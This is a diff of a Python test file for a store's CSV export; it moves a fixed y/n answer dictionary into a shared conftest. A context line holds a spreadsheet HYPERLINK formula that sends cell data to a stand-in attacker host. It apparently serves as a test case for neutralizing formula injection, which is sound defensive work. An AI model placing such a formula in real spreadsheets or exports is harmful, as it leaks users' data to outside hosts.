@@ -12,24 +12,7 @@ import pytest
 
 from store.exporting import CSV_COLUMNS, FORMULA_STARTS, companies_csv, safe_cell
 from store.service import Workbench
-from tests.store.conftest import STARTER_COUNT, Fingerprint, assert_one_line_error
-
-PERFECT = {
-    "A1": "y",
-    "A2": "y",
-    "A3": "y",
-    "B1": "y",
-    "B2": "y",
-    "B3": "y",
-    "B4": "y",
-    "C1": "n",
-    "C2": "n",
-    "C3": "n",
-    "C4": "n",
-    "D1": "y",
-    "D2": "y",
-    "D3": "y",
-}
+from tests.store.conftest import PERFECT, STARTER_COUNT, Fingerprint, assert_one_line_error
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"deck")'
 
